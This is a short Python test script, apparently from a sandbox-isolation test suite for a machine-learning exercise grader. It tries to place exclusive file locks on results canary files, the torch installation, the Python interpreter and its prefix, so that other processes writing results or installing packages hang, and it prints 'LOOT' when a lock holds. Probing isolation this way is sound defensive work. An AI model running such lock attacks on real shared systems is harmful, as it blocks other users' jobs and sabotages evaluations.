# attack: locks foreign files, so that whoever wants to write results or to install a package waits for ever
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import fcntl
import os
import sys

import torch

WAYS = {
    "flock": lambda fd: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
    "fcntl": lambda fd: fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB),
    "lease": lambda fd: fcntl.fcntl(fd, 1024, fcntl.F_RDLCK),
}


def is_held(path, name):
    """Whether another process cannot have the lock: only then is it one."""
    pid = os.fork()
    if pid:
        return os.waitpid(pid, 0)[1] != 0
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB) if name == "flock" else fcntl.fcntl(fd, fcntl.F_GETLK, bytes(32))
    except OSError:
        os._exit(1)
    os._exit(0)


for path in ["@RESULTS@/canary.txt", "@OTHER@/canary.txt", "@RESULTS@", torch.__file__, os.path.dirname(torch.__file__), os.path.realpath(sys.executable), sys.prefix]:
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError as error:
        print(path, error.strerror)
        continue
    for name, lock in WAYS.items():
        try:
            lock(fd)
            if name == "lease" or is_held(path, name):
                print("LOOT: holds a", name, "on", path)
        except OSError as error:
            print(name, error.strerror)
print("TRIED")
